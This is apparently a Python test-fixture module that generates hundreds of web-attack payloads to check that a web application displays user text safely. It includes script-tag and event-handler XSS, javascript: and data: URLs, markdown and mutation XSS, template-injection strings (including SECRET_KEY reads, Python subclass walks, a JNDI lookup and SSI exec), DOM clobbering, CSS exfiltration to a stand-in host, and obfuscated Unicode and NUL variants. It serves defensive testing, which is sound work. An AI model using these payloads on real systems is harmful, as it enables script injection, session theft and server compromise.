"""Words that try to be programs: each one distinct, and each holds `MARK` wherever it would act.

A page shows them safely when no tag, no attribute's name, no script and no address of it holds the mark. In a browser
the mark is a word that `alert` would say: a dialog, or a complaint of the policy, tells that something ran.
"""

from __future__ import annotations

import re
from base64 import b64encode
from html.entities import html5
from itertools import product
from pathlib import Path
from urllib.parse import quote

MARK = "zq9"
RUN = f"alert({MARK})"
BEHAVIOURS = Path(__file__).parents[2] / "static" / "js" / "behaviours"


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(letter)) for letter in text)


TAGS = (
    *(f"<{name}>{RUN}</{name}>" for name in ("script", "SCRIPT", "sCrIpT", "script\t", "script/zq9", "script\n")),
    *(f"<{name} src=//{MARK}.example/a.js></{name}>" for name in ("script", "script async", "script type=module")),
    f"<script>{RUN}",
    f"<script>{RUN}//",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script x>{RUN}</script x>",
    f"<script>/*{MARK}*/{RUN}</script >",
    f"<script type='importmap'>{{\"{MARK}\":\"/\"}}</script>",
    f"<script type=speculationrules>{{\"prefetch\":[\"{MARK}\"]}}</script>",
    *(f"<{name} src='javascript:{RUN}'></{name}>" for name in ("iframe", "frame", "embed", "portal", "fencedframe")),
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe srcdoc='{_entities(f'<script>{RUN}</script>', '&#{};')}'></iframe>",
    f"<frameset onload={RUN}>",
    *(f"<object {name}='javascript:{RUN}'></object>" for name in ("data", "codebase", "classid")),
    f"<object><param name=movie value='javascript:{RUN}'></object>",
    f"<applet code={MARK} archive=//{MARK}.example></applet>",
    f"<base href='//{MARK}.example/'>",
    f"<base target={MARK}>",
    *(f"<meta http-equiv={name} content='0;url=javascript:{RUN}'>" for name in ("refresh", "REFRESH", "set-cookie")),
    f"<meta http-equiv=Content-Security-Policy content=\"script-src '{MARK}'\">",
    f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    *(f"<link rel={rel} href=//{MARK}.example/a>" for rel in ("stylesheet", "import", "prefetch", "manifest", "icon")),
    f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<plaintext {MARK}>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"<listing {MARK}><img src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>{MARK}</marquee>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<x-{MARK} is={MARK} onclick={RUN}>a</x-{MARK}>",
    f"<button is='{MARK}-button' onclick={RUN}>a</button>",
)  # fmt: skip

_EVENTS = (
    "onabort", "onafterprint", "onanimationstart", "onauxclick", "onbeforeinput", "onbeforetoggle", "onblur",
    "oncancel", "oncanplay", "onchange", "onclick", "oncontextmenu", "oncopy", "oncuechange", "ondblclick", "ondrag",
    "onerror", "onfocus", "onfocusin", "onformdata", "onhashchange", "oninput", "oninvalid", "onkeydown", "onload",
    "onloadedmetadata", "onloadstart", "onmessage", "onmouseenter", "onmouseover", "onpageshow", "onpaste",
    "onpointerenter", "onpointerrawupdate", "onpopstate", "onresize", "onscroll", "onscrollend", "onselectionchange",
    "onslotchange", "onsubmit", "ontimeupdate", "ontoggle", "ontouchstart", "ontransitionend", "onunhandledrejection",
    "onunload", "onvolumechange", "onwheel",
)  # fmt: skip
_BEARERS = (
    "img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "a href=# tabindex=1", "audio src",
    "select autofocus", "textarea autofocus", "form", "iframe", "object data=x", "style", "dialog open", "marquee", "p",
)  # fmt: skip
_QUOTED = ("{}={}", "{}='{}'", '{}="{}"', "{} = {}", "{}\n=\n{}", "{}=`{}`", "/{}={}//")
HANDLERS = (
    # Each event once, on bearers and in spellings that take turns.
    *(
        f"<{_BEARERS[index % len(_BEARERS)]} {_QUOTED[index % len(_QUOTED)].format(event, RUN)}>"
        for index, event in enumerate(_EVENTS)
    ),
    *(f"<img{gap}src=x{gap}onerror={RUN}>" for gap in ("/", "\t", "\n", "\f", "\r", "//", "/ ", "\x0b/")),
    *(f"<img src=x {name}={RUN}>" for name in ("ONERROR", "oNeRrOr", "onerror\x0c", "\x00onerror", "on\x00error")),
    f"<img src=x onerror={RUN}",
    f"<img src=x onerror={RUN} <!--",
    f'<img """><img src=x onerror={RUN}>">',
    f"<img src=x:x onerror={_entities(RUN, '&#{};')} {MARK}>",
    f"<img src=x onerror={_entities(RUN, '&#x{:x}')} {MARK}>",
    f"<img src=x onerror=\\u0061lert({MARK})>",
    f"<img src=x onerror=window['al'+'ert']({MARK})>",
    f"<img src=x onerror=import('//{MARK}.example')>",
    f"<img src=x onerror=eval(atob('{b64encode(RUN.encode()).decode()}')) {MARK}>",
    f"<img src=x onerror=top[8680439..toString(30)]({MARK})>",
    f"<img src=x onerror=throw/**/onerror=alert,{MARK}>",
    f"<input type=image src=x formaction=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster=javascript:{RUN}></video>",
    f"<a ping=//{MARK}.example href=#>a</a>",
    f"<img srcset=//{MARK}.example/a.png>",
    f"<img src=//{MARK}.example/pixel.gif>",
    f"<img lowsrc=javascript:{RUN}>",
    f"<table background=javascript:{RUN}><td background=javascript:{RUN}>",
)  # fmt: skip

_COLONS = (":", "&colon;", "&#58;", "&#x3a;", "&#0000058", "\t:", "%3A", "\uff1a")
_SPELLINGS = (
    "javascript", "JavaScript", "java\tscript", "java\nscript", "java\rscript", "java&Tab;script",
    "java&NewLine;script", " javascript", "\x01javascript", "\u00a0javascript",
    "j&#97;vascript", "j&#x61;vascript", "&#106;avascript",
    "&#0000106avascript", "java&#115;cript", "java\x00script", "javascript\u200b", "vbscript", "livescript", "mocha",
    "data", "jar", "view-source", "filesystem", "blob", "file", "feed:javascript", "jav\\u0061script", "java%0ascript",
)  # fmt: skip
ADDRESSES = (
    *(f"{name}:{RUN}" for name in _SPELLINGS),
    *(f"javascript{colon}{RUN}" for colon in _COLONS[1:]),
    f"javascript://{MARK}.example/%0a{RUN}",
    f"javascript://%0d%0a{RUN}",
    f"javascript:/*--></title></style></textarea></script>*/{RUN}",
    f"javascript:'{MARK}'",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{b64encode(f'<script>{RUN}</script>'.encode()).decode()}#{MARK}",
    f"data:text/html;charset=utf-7,+ADw-script+AD4-{RUN}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"data:,{MARK}",
    f"//{MARK}.example/",
    f"/\\{MARK}.example/",
    f"\\\\{MARK}.example\\a",
    f"https:{MARK}.example",
    f"https://www.example.com@{MARK}.example/",
)
_LINKS = (
    "[a]({})", "![a]({})", "<{}>", "[a](<{}>)", "[a]({} 'b')", "[a][b]\n\n[b]: {}", "<a href=\"{}\">a</a>",
    "<a href='{}'>a</a>", "<a href={}>a</a>", "<form action='{}'><button>a</button></form>",
    "<button formaction='{}'>a</button>", "<area href='{}'>", "<svg><a xlink:href='{}'><text>a</text></a></svg>",
)  # fmt: skip
LINKS = tuple(
    # Each address in three of the forms, each form with many of the addresses.
    _LINKS[(index + turn * 5) % len(_LINKS)].format(address)
    for index, address in enumerate(ADDRESSES)
    for turn in range(3)
)

MARKDOWN = (
    f"[a](https://a.example/\"onmouseover={RUN})",
    f"<https://a.example/\"onmouseover={RUN}>",
    f"[a](https://a.example 'b\"onmouseover={RUN}')",
    f"[a](https://a.example \"b'><img src=x onerror={RUN}>\")",
    f"![\"onerror={RUN} x](https://a.example/a.png)",
    f"[![a](x\"onerror={RUN})](javascript:{RUN})",
    f"[<img src=x onerror={RUN}>](https://a.example)",
    f"[a](javascript&colon;{RUN})",
    f"[a]( javascript:{RUN})",
    f"[a]:\njavascript:{RUN}\n[a]",
    f"[a\\](javascript:{RUN})",
    f"[a](\\javascript:{RUN})",
    f"[a](javascript:this;{RUN}(&#39;{MARK}&#39;))",
    f"```html\" onclick={RUN}\n<script>{RUN}</script>\n```",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"~~~{MARK}\"><img/src/onerror={RUN}>\na\n~~~",
    f"`</code><img src=x onerror={RUN}>`",
    f"    </pre><script>{RUN}</script>",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<?xml {MARK}><img src=x onerror={RUN}>?>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<!DOCTYPE html [<!ENTITY a \"{MARK}\">]>&a;",
    f"# <img src=x onerror={RUN}>",
    f"> <script>\n> {RUN}\n> </script>",
    f"- <details open ontoggle={RUN}>",
    f"|a|\n|-|\n|<img src=x onerror={RUN}>|",
    f"|a|\n|:-:\"onclick={RUN}|\n|a|",
    f"a<br onclick={RUN}>b",
    f"<div markdown=1 onclick={RUN}>**a**</div>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"\\<img src=x onerror={RUN}\\>",
    f"*<img src=x* onerror={RUN}>",
    f"#10432\"onmouseover={RUN}",
    f"1. [a](//{MARK}.example)\n2. [a](/\\{MARK}.example)",
)  # fmt: skip

# Out of every place where a page holds a word: an attribute, a text area, a title, a comment, a script.
_ENDS = (
    '">', "'>", ">", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</select>",
    "</option></select>", "</iframe>", "-->", "--!>", "]]>", "</svg>", "</button></form>", "*/-->", "\\\">", "</a>",
    "%22%3E", "&quot;&gt;", "\u201d>", "</xmp>", "</noembed>", "</p></div></main></body>",
)  # fmt: skip
BREAKING_OUT = (
    *(f"{end}<img src=x onerror={RUN}>" for end in _ENDS),
    f'" onfocus={RUN} autofocus x="',
    f"' onfocus={RUN} autofocus x='",
    f"` onfocus={RUN} x=`",
    f"' + {RUN} + '",
    f'";{RUN};//',
    f"';{RUN};//",
    f"\\';{RUN};//",
    f"${{{RUN}}}",
    f"\u2028{RUN}\u2029",
    f"{{}}){RUN}//",
    f"</script\n><script>{RUN}</script\n>",
    f'"}}]</script><script>{RUN}</script>',
    f'" accesskey=x onclick={RUN} b="',
    f'"><svg/onload={RUN}>',
    f'" style=animation-name:{MARK} onanimationstart={RUN} "',
)  # fmt: skip

FOREIGN = (
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg><script>a&#108;ert({MARK})</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributename=x>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>a</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<svg><image href=x onerror={RUN}></svg>",
    f"<svg><feImage href=javascript:{RUN}></svg>",
    f"<svg><handler type=text/ecmascript>{RUN}</handler></svg>",
    f"<svg xmlns:{MARK}='http://www.w3.org/1999/xhtml'><{MARK}:script>{RUN}</{MARK}:script></svg>",
    f"<math href=javascript:{RUN}>a</math>",
    f"<math><mi xlink:href='javascript:{RUN}'>a</mi></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>a</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
)
MUTATING = (
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
    f"<noscript><style></noscript><img src=x onerror={RUN}></style>",
    f"<select><style><img src=x onerror={RUN}></style></select>",
    f"<table><td><img src=x onerror={RUN}><table>",
    f"<p><table><form><button formaction=javascript:{RUN}>a</table>",
    f"<a><b><a href=javascript:{RUN}></b></a>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<textarea><!-- </textarea><img src=x onerror={RUN}> -->",
    f"<title><![CDATA[</title><img src=x onerror={RUN}>]]>",
    f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    f"<xmp><p title='</xmp><svg/onload={RUN}>'>",
    f"<div id='<!--'><img src=x onerror={RUN}>--></div>",
    f"<img alt='`><img src=x onerror={RUN}>`'>",
)
TEMPLATES = (
    f"{{{{ {MARK} }}}}", f"{{{{ {MARK}|safe }}}}", "{{ 7|add:7 }}" + MARK, f"{{% debug %}}{MARK}",
    f"{{% load {MARK} %}}", f"{{% include '{MARK}' %}}", f"{{% autoescape off %}}<img src=x onerror={RUN}>",
    f"{{% verbatim %}}<img src=x onerror={RUN}>{{% endverbatim %}}", f"{{# {MARK}",
    f"{{{{ settings.SECRET_KEY }}}}{MARK}",
    f"{{{{''.__class__.__mro__[1].__subclasses__()}}}}{MARK}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {MARK} %>", f"#{{{MARK}}}", f"@({MARK})", f"*{{{MARK}}}", f"[[${{{MARK}}}]]", f"<#assign x='{MARK}'>${{x}}",
    f"<?php echo '{MARK}'; ?>", f"${{jndi:ldap://{MARK}.example/a}}", f"%({MARK})s %s %d %n", f"{{0.__class__}}{MARK}",
    f"{{request.user.password}}{MARK}", f"$({MARK}) `{MARK}` ; {MARK}", f"<esi:include src=//{MARK}.example />",
    f"<!--#exec cmd='{MARK}' -->", f"v-html=\"'{MARK}'\" x-data x-init={RUN} ng-app ng-init={RUN}",
)  # fmt: skip
CLOBBERING = tuple(
    f"<{tag} {name}={word} {MARK}></{tag}>"
    for word, (tag, name) in zip(
        ("attributes", "body", "cookie", "csrfmiddlewaretoken", "forms", "getElementById", "head", "htmx", "location",
         "trustedTypes", "parentNode", "nodeName", "children", "action", "submit", "key", "compose", "ticket", "main",
         "bell", "toasts", "id_subject", "document", "dataset", "querySelectorAll", "defaultView", "currentScript"),
        (pair for _turn in range(9) for pair in product(("form", "img", "a", "input", "object"), ("id", "name"))),
        strict=False,
    )
)  # fmt: skip
_HTMX = (
    "get", "post", "put", "patch", "delete", "trigger=load get", "boost=true get", "vals='js:{x:1}' get", "on:click",
    "on::load", "headers='{}' post", "include=body post", "swap-oob=true get", "target=body get", "push-url=true get",
    "select-oob=#main get", "ext=x get", "sse=connect:/x get", "ws=connect:/x get", "confirm=x delete",
    "encoding=x post", "disinherit=* get", "history-elt get",
    "preserve get", "request='{}' get", "sync=body:abort get", "params=* post",
)  # fmt: skip
HTMX = tuple(
    f"<div {prefix}hx-{words.replace(' ', f' {prefix}hx-')}={RUN if words.startswith('on') else f'/{MARK}/'}>a</div>"
    for index, words in enumerate(_HTMX)
    for prefix in (("", "data-")[index % 2],)
)


def _our_selectors() -> list[str]:
    """Return what our behaviours look for, read from their files: a new one is tried without being named here."""
    found = [re.findall(r'selector = "([^"]+)"', path.read_text()) for path in sorted(BEHAVIOURS.glob("*.js"))]
    return sorted({selector.strip() for line in found for one in line for selector in one.split(",")})


def _bearer_of(selector: str) -> str:
    """Return a tag that this selector finds, with an address that is not ours in whatever it may read."""
    tag = re.match(r"[a-z]+", selector)
    named = [*re.findall(r"\[([a-z-]+)", selector), *(f"id={word}" for word in re.findall(r"#([a-z-]+)", selector))]
    name = tag[0] if tag else "div"
    return f"<{name} {' '.join(named)} data-live data-upload-url=//{MARK}.example/ action=//{MARK}.example/>a</{name}>"


OURS = tuple(_bearer_of(selector) for selector in _our_selectors())
STYLES = (
    f"<style>*{{display:none}}/*{MARK}*/</style>",
    f"<style>@import '//{MARK}.example/a.css';</style>",
    f"<style>input[value^=a]{{background:url(//{MARK}.example/a)}}</style>",
    f"<p style='position:fixed;inset:0;background:url(//{MARK}.example)'>a</p>",
    f"<p style='width:expression({RUN})'>a</p>",
    f"<p style='behavior:url(#{MARK});-moz-binding:url({MARK})'>a</p>",
    f"<p style=\"background:url('javascript:{RUN}')\">a</p>",
    f"<style>@font-face{{font-family:{MARK};src:url(//{MARK}.example/a)}}</style>",
    f"<style>@keyframes {MARK}{{}}</style><b style=animation-name:{MARK} onanimationstart={RUN}>a</b>",
    f"<link rel=stylesheet href='data:text/css,*{{x:{MARK}}}'>",
    f"<div class='dialog overlay' style=z-index:9999 {MARK}>a</div>",
    f"<font color={MARK} size=999><blink {MARK}>a</blink></font>",
)
UNICODE = (
    *(f"{left}script{right}{RUN}{left}/script{right}" for left, right in
      (("\uff1c", "\uff1e"), ("\u2039", "\u203a"), ("\u02c2", "\u02c3"), ("\u3008", "\u3009"), ("\u226e", "\u226f"))),
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"<\u0130mg src=x onerror={RUN}>",
    f"<img src=x \u1d52nerror={RUN}>",
    f"<\u200bscript>{RUN}</\u200bscript>",
    f"<script\u00a0>{RUN}</script>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\ufeff<script>{RUN}</script>",
    f"<img src=x onerror\u2028={RUN}>",
    f"<a href='java\u00adscript:{RUN}'>a</a>",
    f"<a href='\u0458\u0430v\u0430script:{RUN}'>a</a>",
    f"%3Cscript%3E{quote(RUN)}%3C/script%3E",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\U000e003cscript\U000e003e{RUN}",
    f"<img src=x onerror={RUN}>\u0301\u0301\u0301",
)  # fmt: skip
NULLS = tuple(
    text.replace("\u2400", "\x00")
    for text in (
        f"<scr\u2400ipt>{RUN}</scr\u2400ipt>",
        f"<\u2400script>{RUN}</script>",
        f"<script\u2400>{RUN}</script>",
        f"<img src=x on\u2400error={RUN}>",
        f"<img\u2400src=x\u2400onerror={RUN}>",
        f"<a href='java\u2400script:{RUN}'>a</a>",
        f"[a](java\u2400script:{RUN})",
        f"\u2400<img src=x onerror={RUN}>",
        f"<!\u2400--><img src=x onerror={RUN}>",
    )
)
# Named characters that end in letters, as an attribute of a script's address spells them.
NAMED = tuple(
    f"<a href='javascript&{name}{RUN}'>a</a>"
    for name in sorted(name for name, value in html5.items() if value in (":", "\t", "\n", "(") and name.endswith(";"))
)

GROUPS = {
    "tags": TAGS, "handlers": HANDLERS, "links": LINKS, "markdown": MARKDOWN, "breaking out": BREAKING_OUT,
    "foreign": FOREIGN, "mutating": MUTATING, "templates": TEMPLATES, "clobbering": CLOBBERING, "htmx": HTMX,
    "ours": OURS, "styles": STYLES, "unicode": UNICODE, "nulls": NULLS, "named": NAMED,
}  # fmt: skip
SCRIPTS: tuple[str, ...] = tuple(dict.fromkeys(payload for group in GROUPS.values() for payload in group))
FILE_NAMES: tuple[str, ...] = tuple(
    # What a system's file may be called: no slash, no NUL.
    f"{payload.replace('/', chr(0x2044)).replace(chr(0), '')}.log"
    for payload in SCRIPTS
    if len(payload) <= 80 and "\n" not in payload
)


def packed(payloads: tuple[str, ...], *, longest: int, gap: str = " ") -> list[str]:
    """Return the payloads in texts of at most so many characters; what is longer by itself is left to longer fields."""
    texts: list[str] = []
    for payload in payloads:
        if len(payload) > longest:
            continue
        if texts and len(texts[-1]) + len(gap) + len(payload) <= longest:
            texts[-1] += gap + payload
        else:
            texts.append(payload)
    return texts
